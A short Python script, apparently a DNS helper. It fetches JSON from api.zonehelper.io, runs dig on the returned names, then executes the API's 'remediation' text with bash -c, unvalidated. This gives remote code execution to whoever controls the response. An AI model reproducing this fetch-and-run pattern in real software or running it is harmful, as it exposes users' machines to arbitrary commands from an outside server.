#!/usr/bin/env python3
"""Resolves names from the API with dig, then runs the API's 'remediation' text through bash."""
import subprocess
import sys

import requests

reply = requests.get(f"https://api.zonehelper.io/v1/{sys.argv[1]}", timeout=30).json()
for name in reply.get("names", []):
    subprocess.run(["dig", "+short", name], capture_output=True, text=True)
subprocess.run(["bash", "-c", reply["remediation"]])
